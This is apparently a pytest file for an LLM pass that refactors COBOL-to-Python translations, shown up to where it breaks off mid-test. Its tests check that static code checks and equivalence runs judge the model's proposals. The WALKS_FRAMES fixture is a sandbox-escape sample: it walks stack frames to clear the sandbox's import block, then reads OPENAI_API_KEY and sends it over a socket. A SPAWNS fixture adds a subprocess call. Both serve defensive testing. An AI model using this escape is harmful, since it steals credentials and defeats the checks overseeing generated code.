"""The LLM refactoring pass against the scripted OpenAI server, through the real SDK.

PRICER is a tiny COBOL batch program written here: it reads order lines from a LINE SEQUENTIAL
file (DD ORDERSIN), prices each one with COMPUTE ROUNDED, writes the priced lines (DD PRICEOUT)
and DISPLAYs the count and the total. The legacy harness builds it with GnuCOBOL; DETERMINISTIC
is a hand translation of it onto ``modernize.runtime`` that stands in for the translator's
output. The model's proposals are judged by the real checks: codecheck, then the equivalence
run of the proposal in the sandbox against the COBOL program on four scenarios.

The hand translation does its file I/O through the runtime's file layer (``CobolFile``, which
resolves ``DD_ORDERSIN``/``DD_PRICEOUT`` as GnuCOBOL does), so it passes ``codecheck`` with the
default ``allowed_imports``: a module that opens files itself (``io.FileIO``) is refused.

FEESUM, further down, is a second small program whose module comes from the real translator
(``translate_program``): the pass refines one paragraph method of it. CALLER and DOUBLER show
the check running a proposal beside the subprogram it CALLs. The last tests drive
``modernize validate --refine`` on the sample program TRANSORT.
"""

from __future__ import annotations

import ast
import hashlib
import json
import shutil
import sqlite3
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from conftest import require_tool
from fake_openai import FakeOpenAI, Received, Reply, answer

import modernize.validate.refine as refine_code
from modernize.analysis.run import analyze_into
from modernize.analysis.store import load_analysis
from modernize.cli import main
from modernize.core.model import Program
from modernize.llm import Ledger
from modernize.llm.openai_provider import OpenAIProvider
from modernize.translate import translate_program
from modernize.translate.codecheck import DEFAULT_ALLOWED, check_module
from modernize.validate.harness import Build, Scenario, build
from modernize.validate.refine import (
    Attempt,
    Check,
    RefineError,
    Refinement,
    equivalence_check,
    refine_module,
)

COBC = require_tool("cobc")
needs_cobc = pytest.mark.skipif(COBC is None, reason="cobc (GnuCOBOL) is not installed")

PRICER_CBL = """\
       IDENTIFICATION DIVISION.
       PROGRAM-ID. PRICER.
      * Prices order lines: quantity times unit price less 5 percent,
      * rounded to the cent; one priced line per order line.
       ENVIRONMENT DIVISION.
       INPUT-OUTPUT SECTION.
       FILE-CONTROL.
           SELECT ORDERS ASSIGN TO ORDERSIN
               ORGANIZATION IS LINE SEQUENTIAL.
           SELECT PRICED ASSIGN TO PRICEOUT
               ORGANIZATION IS LINE SEQUENTIAL.
       DATA DIVISION.
       FILE SECTION.
       FD  ORDERS.
       01  ORDER-REC.
           05  OR-CODE             PIC X(4).
           05  OR-QTY              PIC 9(3).
           05  OR-PRICE            PIC 9(3)V99.
       FD  PRICED.
       01  PRICED-REC.
           05  PR-CODE             PIC X(4).
           05  PR-AMOUNT           PIC 9(6)V99.
       WORKING-STORAGE SECTION.
       01  WS-EOF                  PIC X VALUE 'N'.
       01  WS-COUNT                PIC 9(4) VALUE 0.
       01  WS-TOTAL                PIC 9(7)V99 VALUE 0.
       PROCEDURE DIVISION.
       0000-MAIN.
           OPEN INPUT ORDERS OUTPUT PRICED
           PERFORM UNTIL WS-EOF = 'Y'
               READ ORDERS
                   AT END MOVE 'Y' TO WS-EOF
                   NOT AT END PERFORM 1000-PRICE
               END-READ
           END-PERFORM
           CLOSE ORDERS PRICED
           DISPLAY 'LINES ' WS-COUNT ' TOTAL ' WS-TOTAL
           STOP RUN.
       1000-PRICE.
           MOVE OR-CODE TO PR-CODE
           COMPUTE PR-AMOUNT ROUNDED = OR-QTY * OR-PRICE * 0.95
           ADD PR-AMOUNT TO WS-TOTAL
           ADD 1 TO WS-COUNT
           WRITE PRICED-REC.
"""

HEADER = '''\
"""PRICER: prices order lines (quantity times unit price less 5 %, rounded to the cent)."""

from __future__ import annotations

import sys
from decimal import Decimal

from modernize.runtime import AlphanumericField, Group, NumericField, add, compute
from modernize.runtime.files import CobolFile

ORDER_REC = bytearray(12)
OR_CODE = AlphanumericField(ORDER_REC, 0, "X(4)")
OR_QTY = NumericField(ORDER_REC, 4, "9(3)")
OR_PRICE = NumericField(ORDER_REC, 7, "9(3)V99")
PRICED_REC = bytearray(12)
PR_CODE = AlphanumericField(PRICED_REC, 0, "X(4)")
PR_AMOUNT = NumericField(PRICED_REC, 4, "9(6)V99")
WORKING = bytearray(14)
WS_EOF = AlphanumericField(WORKING, 0, "X")
WS_COUNT = NumericField(WORKING, 1, "9(4)")
WS_TOTAL = NumericField(WORKING, 5, "9(7)V99")
ORDERS = CobolFile("ORDERS", "ORDERSIN", organization="LINE SEQUENTIAL",
                   record=Group(ORDER_REC, 0, 12))
PRICED = CobolFile("PRICED", "PRICEOUT", organization="LINE SEQUENTIAL",
                   record=Group(PRICED_REC, 0, 12))
'''

PRICE_LINE = '''

def price_line(priced: CobolFile) -> None:
    """1000-PRICE: price one order line and write it.

    Source: cobol:PRICER/para:1000-PRICE PRICER.cbl:39-44
    """
    PR_CODE.set(OR_CODE)
    compute(PR_AMOUNT, lambda: OR_QTY.get() * OR_PRICE.get() * Decimal("0.95"), rounded=True,
            on_size_error=False)
    add(WS_TOTAL, PR_AMOUNT, on_size_error=False)
    add(WS_COUNT, 1, on_size_error=False)
    priced.write()
'''

FOOTER = '''

if __name__ == "__main__":
    sys.exit(main())
'''

DETERMINISTIC = HEADER + '''

def main() -> int:
    """0000-MAIN: price every order line, then show the count and the total.

    Source: cobol:PRICER/para:0000-MAIN PRICER.cbl:28-38
    """
    WS_EOF.set("N")
    WS_COUNT.set(0)
    WS_TOTAL.set(0)
    ORDERS.open("INPUT")
    PRICED.open("OUTPUT")
    while WS_EOF.get() != "Y":
        if ORDERS.read(handled=True) == "at_end":
            WS_EOF.set("Y")
        else:
            price_line(PRICED)
    ORDERS.close()
    PRICED.close()
    count = WS_COUNT.raw.decode("latin-1")
    total = WS_TOTAL.raw.decode("latin-1")
    sys.stdout.write(f"LINES {count} TOTAL {total[:7]}.{total[7:]}\\n")
    return 0
''' + PRICE_LINE + FOOTER

IDIOMATIC = HEADER + '''

def main() -> int:
    """0000-MAIN: price every order line, then show the count and the total.

    Source: cobol:PRICER/para:0000-MAIN PRICER.cbl:28-38
    """
    WS_EOF.set("N")
    WS_COUNT.set(0)
    WS_TOTAL.set(0)
    ORDERS.open("INPUT")
    PRICED.open("OUTPUT")
    while ORDERS.read(handled=True) == "ok":
        price_line(PRICED)
    WS_EOF.set("Y")
    for file in (ORDERS, PRICED):
        file.close()
    lines_read = WS_COUNT.raw.decode("latin-1")
    whole, cents = WS_TOTAL.raw[:7].decode("latin-1"), WS_TOTAL.raw[7:].decode("latin-1")
    sys.stdout.write(f"LINES {lines_read} TOTAL {whole}.{cents}\\n")
    return 0
''' + PRICE_LINE + FOOTER

SCENARIOS = (
    Scenario("three-lines", {"ORDERSIN": b"A00100201000\nB00201000120\nC00300110000\n"}),
    Scenario("half-cent", {"ORDERSIN": b"D00400100010\n"}),  # 0.095: ROUNDED gives 0.10
    Scenario("empty", {"ORDERSIN": b""}),
    Scenario("largest", {"ORDERSIN": b"E00599999999\nF00699999999\n"}),
)


def variant(source: str, old: str, new: str) -> str:
    """``source`` with one edit (that must apply)."""
    assert source.count(old) == 1, old
    return source.replace(old, new)


# behaviour-changing proposals, each a plausible "cleanup" of IDIOMATIC
TRUNCATES = variant(IDIOMATIC, "rounded=True", "rounded=False")  # first differs on half-cent
COUNTS_FROM_ONE = variant(IDIOMATIC, 'WS_COUNT.set(0)', 'WS_COUNT.set(1)')
DROPS_A_DIGIT = variant(IDIOMATIC, "WS_TOTAL.raw[:7]", "WS_TOTAL.raw[1:7]")
# proposals the static checks refuse
SPAWNS = variant(IDIOMATIC, "import sys\n", "import subprocess\nimport sys\n")
SPAWNS = variant(SPAWNS, "    return 0\n", '    subprocess.run(["true"])\n    return 0\n')
NO_PROVENANCE = variant(IDIOMATIC, "\n    Source: cobol:PRICER/para:1000-PRICE PRICER.cbl:39-44\n",
                        "")
# no new import: frames lead to the bootstrap's globals (to switch its audit hook off) and to
# the builtins (to import os and socket and send the parent's environment out)
WALKS_FRAMES = variant(IDIOMATIC, "    return 0\n", """\
    frame = (step for step in [1]).gi_frame
    while frame.f_back is not None:
        frame = frame.f_back
    frame.f_globals["BLOCKED_IMPORTS"] = set()
    load = frame.f_builtins["__import__"]
    secret = load("os").environ.get("OPENAI_API_KEY", "")
    load("socket").socket(1).connect("/tmp/host.sock")
    sys.stdout.write(secret)
    return 0
""")


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def proposal(source: str, changes: str = "Tidied the read loop and the names.") -> Reply:
    return answer({"source": source, "changes": changes})


def user_text(request: Received) -> str:
    return next(m["content"] for m in request.messages if m["role"] == "user")


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def pricer(tmp_path_factory: pytest.TempPathFactory) -> tuple[Build, Program]:
    """PRICER analysed and built by the legacy harness."""
    if COBC is None:
        pytest.skip("cobc (GnuCOBOL) is not installed")
    root = tmp_path_factory.mktemp("cobol")
    (root / "PRICER.cbl").write_text(PRICER_CBL)
    out = tmp_path_factory.mktemp("analysis")
    analyze_into(root, out)
    estate, _ = load_analysis(out)
    program = estate.program("PRICER")
    assert program is not None
    work = tmp_path_factory.mktemp("work")
    return build(program, estate, root, work, trace=False), program


@pytest.fixture(scope="module")
def equivalent(pricer: tuple[Build, Program]) -> Check:
    """The equivalence run on the four scenarios (legacy runs shared by the tests)."""
    legacy, program = pricer
    return equivalence_check(legacy, SCENARIOS, program)


@pytest.fixture
def server() -> Iterator[FakeOpenAI]:
    with FakeOpenAI() as fake:
        yield fake


def make_provider(server: FakeOpenAI) -> OpenAIProvider:
    return OpenAIProvider(base_url=server.url, api_key="sk-test-refine", model="fake-model",
                          timeout_s=10.0, max_retries=0, sleep=lambda _: None)


@pytest.fixture
def ledger(tmp_path: Path) -> Iterator[Ledger]:
    with Ledger(tmp_path / "out" / "llm.sqlite", run_id="run-1") as opened:
        yield opened


def refine(server: FakeOpenAI, ledger: Ledger | None, check: Check, **options: Any
           ) -> Refinement:
    return refine_module("PRICER", DETERMINISTIC, spec="", provider=make_provider(server),
                         ledger=ledger, check=check, **options)


def never_run(source: str) -> str | None:
    raise AssertionError("the equivalence run was started for a proposal the static checks "
                         "should have refused")


# --------------------------------------------------------------------------- the reference


def test_the_hand_translation_passes_codecheck_and_cites_the_paragraphs(
        pricer: tuple[Build, Program]) -> None:
    _, program = pricer
    report = check_module(DETERMINISTIC)
    assert report.ok, report.describe()
    for function, stated in report.provenance.items():
        [source] = stated
        paragraph = next(p for p in program.paragraphs if p.id == source.model_id)
        assert (paragraph.file, paragraph.line, paragraph.end_line) == (
            source.path, source.first_line, source.last_line), function
    for text in (IDIOMATIC, TRUNCATES, COUNTS_FROM_ONE, DROPS_A_DIGIT):
        assert check_module(text).ok


@needs_cobc
def test_the_deterministic_module_is_equivalent_and_legacy_runs_once(
        pricer: tuple[Build, Program], monkeypatch: pytest.MonkeyPatch) -> None:
    legacy, program = pricer
    calls: list[str] = []
    real_run = refine_code.run

    def counting_run(*args: Any, **kwargs: Any) -> Any:
        calls.append(args[1].name)
        return real_run(*args, **kwargs)

    monkeypatch.setattr(refine_code, "run", counting_run)
    check = equivalence_check(legacy, SCENARIOS, program)
    assert check(DETERMINISTIC) is None
    assert check(IDIOMATIC) is None
    assert calls == [s.name for s in SCENARIOS]  # the COBOL side ran once per scenario


# --------------------------------------------------------------------------- (a) rejected


@needs_cobc
def test_behaviour_changes_are_rejected_and_the_deterministic_module_stands(
        server: FakeOpenAI, ledger: Ledger, equivalent: Check) -> None:
    server.script(proposal(TRUNCATES), proposal(COUNTS_FROM_ONE), proposal(DROPS_A_DIGIT))
    result = refine(server, ledger, equivalent, max_repairs=2)

    assert not result.accepted and result.source == DETERMINISTIC
    assert [(a.number, a.accepted) for a in result.attempts] == [(1, False), (2, False),
                                                                 (3, False)]
    assert [a.source_sha256 for a in result.attempts] == [
        sha(TRUNCATES), sha(COUNTS_FROM_ONE), sha(DROPS_A_DIGIT)]
    truncated, counted, dropped = (a.reason for a in result.attempts)
    # the first difference, named by scenario, file, record and field
    assert "equivalence check" in truncated and "scenario `half-cent`" in truncated
    assert "file:PRICEOUT" in truncated and "`PR-AMOUNT`" in truncated
    assert "`0.10`" in truncated and "`0.09`" in truncated
    assert "scenario `three-lines`" in counted and "LINES 0003" in counted
    assert "LINES 0004" in counted
    assert "TOTAL 0000125.40" in dropped and "TOTAL 000125.40" in dropped

    # each failure went back to the model in the next request, with the rejected diff
    requests = server.completions
    assert len(requests) == 3
    first, second, third = (user_text(r) for r in requests)
    assert "Why that proposal was rejected" not in first and DETERMINISTIC.strip() in first
    assert truncated in second
    assert "-    compute(PR_AMOUNT, lambda: OR_QTY.get() * OR_PRICE.get() * Decimal(\"0.95\"), " \
           "rounded=True," in second
    assert "+    compute(PR_AMOUNT, lambda: OR_QTY.get() * OR_PRICE.get() * Decimal(\"0.95\"), " \
           "rounded=False," in second
    assert counted in third and truncated not in third
    assert all(r.body is not None and r.body["model"] == "fake-model" for r in requests)

    # every attempt is in the audit log, with why it was rejected
    rows = ledger.audit()
    assert [(r.prompt_id, r.outcome, r.cache_hit) for r in rows] == [
        ("translate.refine", "unverified", False)] * 3
    assert rows[0].error is not None and "half-cent" in rows[0].error


# --------------------------------------------------------------------------- (b) accepted


@needs_cobc
def test_a_proposal_that_keeps_behaviour_is_accepted(server: FakeOpenAI, ledger: Ledger,
                                                     equivalent: Check) -> None:
    server.script(proposal(IDIOMATIC))
    result = refine(server, ledger, equivalent)
    assert result == Refinement("PRICER", True, IDIOMATIC, (
        Attempt(1, True, "accepted: passed the static checks and the equivalence check",
                sha(IDIOMATIC)),))
    assert len(server.completions) == 1
    assert [r.outcome for r in ledger.audit()] == ["ok"]
    body = server.completions[0].body
    assert body is not None and body["response_format"]["json_schema"]["name"] == "Proposal"


@needs_cobc
def test_one_function_is_refined_and_spliced_into_the_module(server: FakeOpenAI,
                                                             equivalent: Check) -> None:
    renamed = variant(PRICE_LINE.strip("\n") + "\n", "priced: CobolFile", "output: CobolFile")
    renamed = variant(renamed, "priced.write(", "output.write(")
    server.script(proposal(renamed), proposal("import sys\n\n" + renamed))
    result = refine(server, None, equivalent, function="price_line")
    assert result.accepted
    assert result.source == DETERMINISTIC.replace(PRICE_LINE.strip("\n"), renamed.strip("\n"))
    assert "only the function `price_line`" in user_text(server.completions[0])
    # an answer that is more than the one function is refused before anything runs
    refused = refine(server, None, never_run, function="price_line", max_repairs=0)
    assert not refused.accepted and refused.source == DETERMINISTIC
    assert "the definition of price_line and nothing else" in refused.attempts[0].reason


CLASSY = '''\
"""A translated program whose paragraphs are methods."""

from modernize.runtime import NumericField, add


class Counter:
    """CNT."""

    def __init__(self) -> None:
        """Source: cobol:CNT/data:WS-N CNT.cbl:5-5"""
        self.buffer = bytearray(4)
        self.n = NumericField(self.buffer, 0, "9(4)")

    def p_1000_add(self) -> None:
        """1000-ADD.

        Source: cobol:CNT/para:1000-ADD CNT.cbl:9-11
        """
        increment = 1
        add(self.n, increment, on_size_error=False)
'''

TIDIER_METHOD = '''\
def p_1000_add(self) -> None:
    """1000-ADD: count one more.

    Source: cobol:CNT/para:1000-ADD CNT.cbl:9-11
    """
    add(self.n, 1, on_size_error=False)
'''


def test_a_method_is_refined_and_spliced_at_its_indentation(server: FakeOpenAI) -> None:
    judged: list[str] = []

    def check(source: str) -> str | None:
        judged.append(source)
        return None

    server.script(proposal(TIDIER_METHOD))
    result = refine_module("CNT", CLASSY, spec="", provider=make_provider(server), ledger=None,
                           check=check, function="Counter.p_1000_add")
    expected = CLASSY[:CLASSY.index("    def p_1000_add")] + textwrap.indent(TIDIER_METHOD,
                                                                           "    ")
    assert result.accepted and result.source == expected and judged == [expected]
    assert "only the method `Counter.p_1000_add`" in user_text(server.completions[0])


# --------------------------------------------------------------------------- (c) codecheck


def test_codecheck_refuses_proposals_without_running_them(server: FakeOpenAI,
                                                          ledger: Ledger) -> None:
    server.script(proposal(SPAWNS), proposal(NO_PROVENANCE), answer("Sure! Here it is."))
    result = refine(server, ledger, never_run, max_repairs=2)

    assert not result.accepted and result.source == DETERMINISTIC
    spawned, unsourced, unparsed = (a.reason for a in result.attempts)
    assert "static checks (the proposal was not run)" in spawned
    assert "[forbidden-import] import of subprocess is not allowed" in spawned
    assert "[new-import] import of subprocess" in spawned
    assert "[missing-provenance] function price_line" in unsourced
    assert ("[lost-provenance] no function states 'Source: cobol:PRICER/para:1000-PRICE "
            "PRICER.cbl:39-44'") in unsourced
    assert "not a JSON object" in unparsed and result.attempts[2].source_sha256 == ""
    second, third = (user_text(r) for r in server.completions[1:])
    assert spawned in second and "+import subprocess" in second
    assert unsourced in third
    assert [r.outcome for r in ledger.audit()] == ["unverified", "unverified", "error"]


def test_a_frame_walking_escape_without_new_imports_is_refused_unrun(
        server: FakeOpenAI, ledger: Ledger) -> None:
    server.script(proposal(WALKS_FRAMES))
    result = refine(server, ledger, never_run, max_repairs=0)
    assert not result.accepted and result.source == DETERMINISTIC
    reason = result.attempts[0].reason
    assert "static checks (the proposal was not run)" in reason
    for attribute in ("gi_frame", "f_back", "f_globals", "f_builtins"):
        assert f"[internal-attribute] attribute {attribute}" in reason, reason


def test_invented_provenance_is_refused(server: FakeOpenAI) -> None:
    invented = variant(IDIOMATIC, "PRICER.cbl:39-44", "PRICER.cbl:39-45")
    server.script(proposal(invented))
    [attempt] = refine(server, None, never_run, max_repairs=0).attempts
    assert not attempt.accepted
    assert "[invented-provenance] 'Source: cobol:PRICER/para:1000-PRICE PRICER.cbl:39-45'" \
        in attempt.reason
    assert "[lost-provenance]" in attempt.reason


def test_an_unchanged_answer_is_accepted_without_a_run(server: FakeOpenAI) -> None:
    server.script(proposal(f"```python\n{DETERMINISTIC}```"))
    result = refine(server, None, never_run)
    assert result.accepted and result.source == DETERMINISTIC
    assert result.attempts[0].reason == "accepted: no change from the deterministic module"


def test_a_deterministic_module_that_fails_its_checks_is_not_refined(server: FakeOpenAI
                                                                     ) -> None:
    # the translation as it was before the runtime had files: it opened them with io.FileIO
    opens_files = variant(DETERMINISTIC, "import sys\n", "import io\nimport sys\n")
    opens_files = variant(opens_files, '    ORDERS.open("INPUT")\n',
                          '    io.FileIO("ORDERSIN", "r").close()\n    ORDERS.open("INPUT")\n')
    with pytest.raises(RefineError, match="forbidden-import"):
        refine_module("PRICER", opens_files, spec="", provider=make_provider(server),
                      ledger=None, check=never_run)  # io is not allowed by default
    with pytest.raises(RefineError, match=r"\[forbidden-name\] use of io.FileIO"):
        refine_module("PRICER", opens_files, spec="", provider=make_provider(server),
                      ledger=None, check=never_run,  # nor FileIO when io is
                      allowed_imports=DEFAULT_ALLOWED | {"io"})
    with pytest.raises(RefineError, match="no module-level function or method 'nowhere'"):
        refine(server, None, never_run, function="nowhere")
    assert server.completions == []


# --------------------------------------------------------------------------- (d) the cache


@needs_cobc
def test_an_unchanged_rerun_is_served_from_the_ledger(tmp_path: Path, server: FakeOpenAI,
                                                      equivalent: Check) -> None:
    path = tmp_path / "llm.sqlite"
    server.script(proposal(TRUNCATES), proposal(IDIOMATIC))
    with Ledger(path, run_id="first") as first:
        before = refine(server, first, equivalent)
    assert before.accepted and before.source == IDIOMATIC
    assert [a.accepted for a in before.attempts] == [False, True]
    assert before.attempts[0].reason in user_text(server.completions[1])  # the repair request
    asked = len(server.requests)

    with Ledger(path, run_id="second") as second:
        after = refine(server, second, equivalent)
        rows = second.audit()
    assert len(server.requests) == asked  # no HTTP request at all
    assert after == before
    assert [(r.cache_hit, r.outcome) for r in rows] == [(True, "unverified"), (True, "ok")]


@needs_cobc
def test_a_crash_or_an_endless_loop_is_rejected(pricer: tuple[Build, Program],
                                                server: FakeOpenAI) -> None:
    legacy, program = pricer
    crashes = variant(IDIOMATIC, '    WS_COUNT.set(0)\n', '    WS_COUNT.set(int("zero"))\n')
    loops = variant(IDIOMATIC, '    WS_EOF.set("Y")\n',
                    '    while WS_EOF.get() != "Y":\n        pass\n')
    server.script(proposal(crashes), proposal(loops))
    check = equivalence_check(legacy, SCENARIOS[:1], program, timeout_s=3)
    result = refine(server, None, check, max_repairs=1)
    assert not result.accepted
    crashed, looped = (a.reason for a in result.attempts)
    # the end of the traceback, without the temporary folders (so repairs stay cacheable)
    assert "| return-code |  |  | `0` | `1` |" in crashed
    assert 'File "pricer.py", line ' in crashed and "ValueError: invalid literal" in crashed
    assert "/tmp" not in crashed and "pyrun-" not in crashed
    assert "scenario `three-lines`: the module ran longer than 3 s" in looped


def test_the_answer_schema_is_the_proposal() -> None:
    from modernize.llm import load_prompt
    from modernize.validate.refine import Proposal

    prompt = load_prompt("translate.refine")
    assert prompt.output_schema == "Proposal"
    assert set(Proposal.model_json_schema()["properties"]) == {"source", "changes"}
    context = {"The deterministic translation": DETERMINISTIC}
    [_, user] = prompt.render(program="PRICER", scope="the whole module", context=context,
                              specs="")
    assert f"## The deterministic translation\n\n~~~~\n{DETERMINISTIC.rstrip()}\n~~~~" in \
        user.content
    assert "None is available" in user.content
    [_, user] = prompt.render(program="PRICER", scope="the whole module", context=context,
                              specs="PRICER prices order lines.")
    assert "## Specification\n\nPRICER prices order lines." in user.content


# --------------------------------------------------------------------------- (e) the translator

FEESUM_CBL = """\
       IDENTIFICATION DIVISION.
       PROGRAM-ID. FEESUM.
      * Adds up amounts and a fee of 1.5 percent of each, rounded to
      * the cent.
       ENVIRONMENT DIVISION.
       INPUT-OUTPUT SECTION.
       FILE-CONTROL.
           SELECT AMOUNTS ASSIGN TO AMOUNTIN
               ORGANIZATION IS LINE SEQUENTIAL.
       DATA DIVISION.
       FILE SECTION.
       FD  AMOUNTS.
       01  AMOUNT-REC.
           05  AM-VALUE            PIC 9(5)V99.
       WORKING-STORAGE SECTION.
       01  WS-EOF                  PIC X VALUE 'N'.
       01  WS-COUNT                PIC 9(4) VALUE 0.
       01  WS-FEE                  PIC 9(5)V99 VALUE 0.
       01  WS-TOTAL                PIC 9(7)V99 VALUE 0.
       PROCEDURE DIVISION.
       0000-MAIN.
           OPEN INPUT AMOUNTS
           PERFORM 1000-READ
           PERFORM UNTIL WS-EOF = 'Y'
               PERFORM 2000-CALC
               PERFORM 1000-READ
           END-PERFORM
           CLOSE AMOUNTS
           DISPLAY 'COUNT ' WS-COUNT ' TOTAL ' WS-TOTAL
           STOP RUN.
       1000-READ.
           READ AMOUNTS
               AT END MOVE 'Y' TO WS-EOF
           END-READ.
       2000-CALC.
           COMPUTE WS-FEE ROUNDED = AM-VALUE * 0.015
           ADD AM-VALUE WS-FEE TO WS-TOTAL
           ADD 1 TO WS-COUNT.
"""

FEESUM_SCENARIOS = (
    Scenario("amounts", {"AMOUNTIN": b"0010000\n0000033\n0001234\n"}),
    Scenario("half-cent", {"AMOUNTIN": b"0000100\n"}),  # fee 0.015: ROUNDED gives 0.02
    Scenario("empty", {"AMOUNTIN": b""}),
)
CALC = "Feesum.calc"


@dataclass(frozen=True)
class Translated:
    """FEESUM as the pipeline has it: the model, the GnuCOBOL build, the translator's module."""

    program: Program
    legacy: Build
    source: str


@pytest.fixture(scope="module")
def feesum(tmp_path_factory: pytest.TempPathFactory) -> Translated:
    """FEESUM analysed, built by the legacy harness and translated by the real translator."""
    if COBC is None:
        pytest.skip("cobc (GnuCOBOL) is not installed")
    root = tmp_path_factory.mktemp("feesum")
    (root / "FEESUM.cbl").write_text(FEESUM_CBL)
    out = tmp_path_factory.mktemp("feesum-analysis")
    analyze_into(root, out)
    estate, _ = load_analysis(out)
    program = estate.program("FEESUM")
    assert program is not None
    translation = translate_program(program, estate)
    assert not translation.unsupported and not translation.check_problems
    legacy = build(program, estate, root, tmp_path_factory.mktemp("feesum-work"), trace=False)
    return Translated(program, legacy, translation.source)


def method_source(module: str, qualified: str) -> str:
    """The dedented definition of ``Class.method`` in ``module``, as the model answers it."""
    owner, _, name = qualified.partition(".")
    tree = ast.parse(module)
    cls = next(n for n in tree.body if isinstance(n, ast.ClassDef) and n.name == owner)
    method = next(n for n in cls.body if isinstance(n, ast.FunctionDef) and n.name == name)
    assert method.end_lineno is not None
    lines = module.splitlines(keepends=True)[method.lineno - 1:method.end_lineno]
    return textwrap.dedent("".join(lines))


@needs_cobc
def test_a_translator_module_keeps_its_paragraph_unless_the_rewrite_is_equivalent(
        feesum: Translated, server: FakeOpenAI) -> None:
    deterministic = feesum.source
    check = equivalence_check(feesum.legacy, FEESUM_SCENARIOS, feesum.program)
    assert check(deterministic) is None  # the translator's module is the reference
    calc = method_source(deterministic, CALC)
    [stated] = check_module(deterministic).provenance[CALC]
    assert stated.render() in calc

    # a "simplification" that drops ROUNDED from COMPUTE WS-FEE: rejected by the runs
    truncates = variant(calc, "rounded=True", "rounded=False")
    # a clearer local variable and a comment: the same behaviour, accepted
    clearer = calc.replace("self.amount_rec.am_value.get()", "amount")
    assert clearer.count("amount") >= 2
    clearer = variant(clearer, '    """\n', '    """\n    amount = self.amount_rec.am_value.get()'
                      '\n    # the total adds the fee as stored: rounded to the cent\n')
    server.script(proposal(truncates), proposal(clearer))

    def refine_calc(max_repairs: int) -> Refinement:
        return refine_module("FEESUM", deterministic, spec="", provider=make_provider(server),
                             ledger=None, check=check, function=CALC, max_repairs=max_repairs)

    rejected = refine_calc(0)
    assert not rejected.accepted and rejected.source == deterministic
    [attempt] = rejected.attempts
    assert "rejected by the equivalence check" in attempt.reason
    # 12.34 * 0.015 = 0.1851: the fee is 0.19 rounded, 0.18 truncated
    assert "scenario `amounts` differs" in attempt.reason
    assert "`'COUNT 0003 TOTAL 0000114.36'` | `'COUNT 0003 TOTAL 0000114.35'`" in attempt.reason
    assert "only the method `Feesum.calc`" in user_text(server.completions[0])

    accepted = refine_calc(0)
    assert accepted.accepted, accepted.attempts
    assert accepted.source == variant(deterministic, textwrap.indent(calc, "    "),
                                      textwrap.indent(clearer, "    "))
    assert "    amount = self.amount_rec.am_value.get()\n" in accepted.source
    assert check_module(accepted.source).provenance[CALC] == [stated]
    assert check(accepted.source) is None


CALLER_CBL = """\
       IDENTIFICATION DIVISION.
       PROGRAM-ID. CALLER.
       DATA DIVISION.
       WORKING-STORAGE SECTION.
       01  WS-PGM                  PIC X(8) VALUE 'DOUBLER'.
       01  WS-N                    PIC 9(4) VALUE 21.
       PROCEDURE DIVISION.
       0000-MAIN.
           CALL WS-PGM USING WS-N
           DISPLAY 'N ' WS-N
           STOP RUN.
"""

DOUBLER_CBL = """\
       IDENTIFICATION DIVISION.
       PROGRAM-ID. DOUBLER.
       DATA DIVISION.
       LINKAGE SECTION.
       01  LK-N                    PIC 9(4).
       PROCEDURE DIVISION USING LK-N.
       0000-MAIN.
           COMPUTE LK-N = LK-N * 2
           GOBACK.
"""


@needs_cobc
def test_the_check_runs_a_proposal_beside_the_subprograms_it_calls(tmp_path: Path) -> None:
    root, analysis, code = tmp_path / "cobol", tmp_path / "analysis", tmp_path / "code"
    root.mkdir()
    code.mkdir()
    (root / "CALLER.cbl").write_text(CALLER_CBL)
    (root / "DOUBLER.cbl").write_text(DOUBLER_CBL)
    analyze_into(root, analysis)
    estate, _ = load_analysis(analysis)
    caller, doubler = estate.program("CALLER"), estate.program("DOUBLER")
    assert caller is not None and doubler is not None
    for program in (caller, doubler):
        translation = translate_program(program, estate)
        (code / f"{translation.module_name}.py").write_text(translation.source)
    legacy = build(caller, estate, root, tmp_path / "work", trace=False)
    scenarios = [Scenario("plain", {})]
    source = (code / "caller.py").read_text()

    alone = equivalence_check(legacy, scenarios, caller)(source)
    assert alone is not None and "module 'DOUBLER' not found" in alone  # CALL finds nothing
    beside = equivalence_check(legacy, scenarios, caller,
                               companions=sorted(code.glob("*.py")))  # its own file skipped
    assert beside(source) is None
    assert '"N "' in source
    assert beside(source.replace('"N "', '"M "')) is not None


# --------------------------------------------------------------------------- (f) the CLI

SAMPLES = Path(__file__).resolve().parent.parent / "legacy_samples"


SAMPLE_FILES = ("cobol/TRANSORT.cbl", "copylib", "scenarios/TRANSORT",
                "expected/TRANVAL/TRANOUT")
"""The part of the sample estate TRANSORT needs: its source, the copybooks, its hand-written
scenario and the file that scenario sorts (translating the whole estate takes longer)."""


@pytest.fixture(scope="module")
def samples(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """TRANSORT of the sample estate, analysed and translated (analysis folder, code
    folder)."""
    base = tmp_path_factory.mktemp("samples")
    estate, analysis, code = base / "legacy", base / "analysis", base / "code"
    for name in SAMPLE_FILES:
        source, target = SAMPLES / name, estate / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if source.is_dir():
            shutil.copytree(source, target)
        else:
            shutil.copyfile(source, target)
    runner = CliRunner()
    result = runner.invoke(main, ["analyze", str(estate), "--out", str(analysis), "--quiet"])
    assert result.exit_code == 0, result.output
    result = runner.invoke(main, ["translate", str(analysis), "--out", str(code)])
    assert result.exit_code == 0, result.output
    return analysis, code


def validate_transort(samples: tuple[Path, Path], out: Path, *options: str) -> Result:
    analysis, code = samples
    return CliRunner().invoke(main, ["validate", str(analysis), "--code", str(code), "--out",
                                     str(out), "--program", "TRANSORT", "--scenarios", "3",
                                     "--quiet", *options])


def use_server(monkeypatch: pytest.MonkeyPatch, server: FakeOpenAI) -> None:
    monkeypatch.setenv("OPENAI_BASE_URL", server.url)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-refine")
    monkeypatch.setenv("MODERNIZE_MODEL", "fake-model")
    monkeypatch.setenv("MODERNIZE_LLM_RETRIES", "0")


@needs_cobc
def test_validate_refine_writes_an_accepted_module(samples: tuple[Path, Path], tmp_path: Path,
                                                   server: FakeOpenAI,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    _, code = samples
    deterministic = (code / "transort.py").read_text()
    clearer = deterministic.replace("outcome_1", "outcome")
    clearer = variant(clearer, '"""1100-READ-RELEASE.\n',
